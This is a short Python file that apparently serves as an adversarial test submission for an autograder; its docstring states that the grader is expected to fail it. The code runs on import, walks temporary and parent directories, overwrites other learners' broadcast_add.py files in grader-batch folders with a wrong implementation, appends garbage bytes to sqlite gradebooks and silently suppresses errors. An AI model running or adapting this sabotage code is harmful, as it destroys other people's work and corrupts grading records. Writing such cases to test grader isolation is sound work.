"""Attack: sabotages other submissions. Expect: failed; at most 0 points.

In a class batch (grader batch) other learners' submissions are graded beside this one, each in a
scratch folder named grader-batch-* (the attacker has read the source), and the gradebook is written
somewhere near: overwrite every other broadcast_add.py in those folders with a wrong one, and write into
every gradebook (*.sqlite) found above this submission.
"""

import os

WRONG = "def broadcast_add(a, b):\n    return a\n"
HERE = os.path.abspath(__file__)
ABOVE = os.path.abspath(os.path.join(os.path.dirname(HERE), "..", "..", ".."))


def _sabotage():
    for top in ("/tmp", "/var/tmp", "/dev/shm", ABOVE):
        for folder, dirs, files in os.walk(top):
            if folder.count(os.sep) > 7:
                dirs[:] = []
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if name == "broadcast_add.py" and "grader-batch-" in path and os.path.abspath(path) != HERE:
                        with open(path, "w") as f:
                            f.write(WRONG)
                    elif name.endswith((".sqlite", ".sqlite-wal")) and path.startswith(ABOVE):
                        with open(path, "ab") as f:
                            f.write(b"\0garbage" * 64)
                except OSError:
                    pass


try:
    _sabotage()
except Exception:
    pass


def broadcast_add(a, b):
    return a
